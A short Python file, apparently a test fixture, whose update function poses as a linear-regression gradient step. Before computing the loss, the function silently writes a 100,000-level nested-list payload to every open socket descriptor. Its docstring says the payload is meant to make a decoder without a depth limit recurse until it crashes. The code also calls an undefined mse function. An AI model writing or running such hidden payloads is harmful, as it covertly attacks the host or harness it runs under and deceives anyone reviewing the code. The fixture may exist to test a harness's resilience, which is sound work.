"""Write a small frame of 100,000 nested lists (a decoder without a depth limit recurses until it breaks)."""
TARGET, EXPECT = "update", {"update": 0}
import os
import stat

import torch


def _write_to_sockets(data):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def update(x, y, a, lr):
    body = b"\x91" * 100_000 + b"\xc0"
    _write_to_sockets(len(body).to_bytes(4, "big") + body)
    loss = mse(x @ a, y)
    loss.backward()
    with torch.no_grad():
        a -= lr * a.grad
    a.grad.zero_()
    return loss
